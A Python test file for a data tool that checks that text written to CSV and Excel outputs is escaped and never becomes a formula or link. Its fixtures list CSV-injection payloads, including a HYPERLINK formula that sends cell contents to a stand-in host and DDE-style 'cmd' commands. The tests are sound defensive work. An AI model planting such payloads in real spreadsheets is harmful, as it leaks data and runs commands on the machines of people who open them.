"""Outputs safe to open: every text cell lkdata writes for Excel (CSV or workbook) is text, never a formula
or a link; numbers stay numbers; what lkdata reads back is what it wrote."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from lkdata.io.cells import FORMULA_START, escape_column, escape_text, starts_formula, unescape_text
from lkdata.io.send_back import write_send_back
from lkdata.io.store import load_quarantine, load_review, write_csv, write_xlsx
from lkdata.vn.columns import show

#: Cells an attacker (or a careless paste) puts in a raw file, after OWASP's CSV-injection examples.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=1+1",
    "+84 705 161 453",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",  # already quoted once: quoted again, read back as typed
    "''@x",
    "-",
]
#: Cells xlsxwriter's ``write()`` turns into links.
LINKS = ["http://evil.example/", "mailto:a@b.vn", "external:c:\\x.xlsx"]
#: Cells that stay as they are: plain numbers (a negative one too) and ordinary text.
PLAIN = ["-3", "+3", "-1.234,5", "1,234.5", "0912345678", "Nguyễn Văn Hòa", "Khu phố 3", "a=b", " =1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_starting_like_a_formula_is_quoted_and_read_back_as_typed(text: str):
    assert starts_formula(text)
    assert escape_text(text) == "'" + text
    assert unescape_text(escape_text(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_plain_numbers_and_text_are_left_as_they_are(text: str):
    assert escape_text(text) == text and unescape_text(text) == text


_TEXT = st.text(alphabet=st.sampled_from([*FORMULA_START, "'", "a", "1", ",", ".", " ", "ữ"]), max_size=8) | st.text()


@given(st.lists(st.one_of(st.none(), _TEXT), max_size=20))
def test_escaping_round_trips_and_leaves_no_formula(values: list[str | None]):
    escaped = escape_column(pa.array(values, type=pa.string())).to_pylist()
    assert escaped == [None if v is None else escape_text(v) for v in values]
    half = len(values) // 2  # a column read from several files comes in several chunks
    chunked = pa.chunked_array([pa.array(values[:half], pa.string()), pa.array(values[half:], pa.string())])
    assert escape_column(chunked).to_pylist() == escaped
    for v, e in zip(values, escaped, strict=True):
        if v is None:
            continue
        assert unescape_text(e) == v
        assert e[0] == "'" or not starts_formula(e) if e else True  # Excel sees a quote or no formula


def _csv_cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, delimiter=";"))


def test_csv_text_cells_are_quoted_numbers_stay_numbers_and_read_back_whole(tmp_path: Path):
    n = len(HOSTILE)
    df = pd.DataFrame({
        "name": pd.array(HOSTILE, dtype="string[pyarrow]"),
        "raw": pd.Series([*HOSTILE[:-1], -3.0], dtype=object),  # raw cells: text, and a typed number
        "area": [-3.5] * n,
        "members": pd.array([-2] * n, dtype="Int64"),
        "day": pd.to_datetime(["2026-04-02"] * n),
    })  # fmt: skip
    path = tmp_path / "quarantine" / "producers.csv"
    write_csv(df.rename(columns={"name": "Tệp", "raw": "Lý do"}), path)
    rows = _csv_cells(path)
    for row in rows[1:]:
        for cell in row[:2]:
            assert not starts_formula(cell) or cell.startswith("'"), cell
        assert row[2:4] == ["-3,5", "-2"]  # typed numbers: never quoted
    assert rows[-1][1] == "-3"  # a raw number cell stays a number
    back = load_quarantine("producers", tmp_path, raw_headers=True)
    assert back["Tệp"].tolist() == HOSTILE
    assert back["Lý do"].tolist() == [*(show(h) for h in HOSTILE[:-1]), "-3"]  # raw cells are trimmed


def test_review_lists_read_back_as_written(tmp_path: Path):
    write_csv(pd.DataFrame({"Giá trị không khớp": pd.array(HOSTILE, dtype="string")}), tmp_path / "review" / "x.csv")
    assert load_review(tmp_path)["x"]["Giá trị không khớp"].tolist() == HOSTILE


def _formula_cells(path: Path) -> list[str]:
    book = openpyxl.load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_office_list_workbook_writes_text_as_text_numbers_as_numbers(tmp_path: Path):
    hostile = HOSTILE + LINKS
    df = pd.DataFrame({
        "Họ và tên chủ hộ": hostile, "Số điện thoại": ["0912345678"] * len(hostile),
        "Ngày hết hạn": pd.to_datetime(["2026-06-30"] * len(hostile)), "Diện tích (ha)": [-1.5] * len(hostile),
    })  # fmt: skip
    path = tmp_path / "noi_bo" / "list.xlsx"
    write_xlsx(df, path)
    assert _formula_cells(path) == []
    ws = openpyxl.load_workbook(path).active
    assert not ws._hyperlinks
    names = [c.value.replace("_x000D_", "\r") for c in ws["A"][1:]]  # Excel reads _x000D_ as CR; openpyxl not
    assert names == hostile  # as typed: the quote is Excel's prefix, not part of the value
    assert all(c.quotePrefix for c in ws["A"][1:] if starts_formula(c.value))
    assert [c.data_type for c in ws["B"][1:]] == ["s"] * len(hostile)  # a phone keeps its leading zero
    assert ws["C2"].value == dt.datetime(2026, 6, 30) and ws["C2"].number_format == "dd/mm/yyyy"
    assert ws["D2"].value == -1.5 and ws["D2"].data_type == "n"


def test_send_back_workbooks_write_sheet_names_and_values_as_text(tmp_path: Path):
    hostile = HOSTILE + LINKS
    rows = pd.DataFrame({
        "Tệp": "producers/a.xlsx", "Trang tính": hostile, "Dòng": [str(i) for i in range(5, 5 + len(hostile))],
        "Lý do": [f"Khu phố không có trong danh mục: {h}" for h in hostile], "Họ và tên chủ hộ": hostile,
        "Diện tích canh tác": "-3",
    })  # fmt: skip
    write_csv(rows, tmp_path / "quarantine" / "producers.csv")
    (book,) = write_send_back(tmp_path)
    assert _formula_cells(book) == []
    ws = openpyxl.load_workbook(book).active
    assert not ws._hyperlinks
    got = [[c.value.replace("_x000D_", "\r") if isinstance(c.value, str) else c.value for c in r]
           for r in ws.iter_rows(min_row=2)]  # fmt: skip
    # rows come in sheet and row order; each keeps its sheet name, its row number (a number) and its value as text
    assert sorted((r[0], r[1], r[3]) for r in got) == sorted((h, 5 + i, h) for i, h in enumerate(hostile))
    assert {r[4] for r in got} == {"-3"}  # a value as typed, text


def test_templates_write_the_office_catalogues_as_text(tmp_path: Path):
    from lkdata.io.reference import load_reference
    from lkdata.io.templates import write_templates

    ref = load_reference()
    crops = pd.concat([ref.crops, pd.DataFrame([{"code": "X", "name": '=HYPERLINK("http://x")', "aliases": ""}])])
    hostile = dataclasses.replace(ref, crops=crops.reset_index(drop=True))
    for path in write_templates(tmp_path, hostile):
        assert _formula_cells(path) == [], path.name


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(_TEXT, min_size=1, max_size=6))
def test_any_text_written_to_a_workbook_is_a_string_cell(tmp_path: Path, values: list[str]):
    path = tmp_path / "x.xlsx"
    write_xlsx(pd.DataFrame({"v": values}), path)
    ws = openpyxl.load_workbook(path).active
    cells = ws["A"][1:]
    assert all(c.data_type in ("s", "n") or c.value is None for c in cells)
    assert _formula_cells(path) == []


def test_a_clean_writes_hostile_raw_cells_as_text_everywhere(tmp_path: Path):
    """Through the real path: a raw CSV whose names and cells open like formulas, cleaned; every CSV the
    clean writes, and the send-back workbook made from its quarantine, hold them as text."""
    from lkdata.jobs.clean_run import run_clean

    raw = tmp_path / "raw" / "producers"
    raw.mkdir(parents=True)
    lines = ["Họ và tên chủ hộ;Số điện thoại;Khu phố;Diện tích (ha);Cây trồng chính"]
    lines += [f"{name};0912345678;Khu phố 1;1,5;sầu riêng" for name in ("=1+1 Nguyễn", "@SUM(A1) Lê", "+Trần Văn")]
    lines += ["-2+3+cmd|' /C calc'!A0;0912345679;=HYPERLINK(\"http://x\");-3;sầu riêng"]  # quarantined
    (raw / "ds.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    run_clean(tmp_path / "raw", out)
    written = [out / "producers.csv", out / "quarantine" / "producers.csv"]
    for path in written:
        for row in _csv_cells(path)[1:]:
            assert not [c for c in row if starts_formula(c) and not c.startswith("'")], (path.name, row)
    quarantine = load_quarantine("producers", out, raw_headers=True)
    assert "-2+3+cmd|' /C calc'!A0" in set(quarantine["Họ và tên chủ hộ"])  # read back as typed
    (book,) = write_send_back(out)
    assert _formula_cells(book) == []
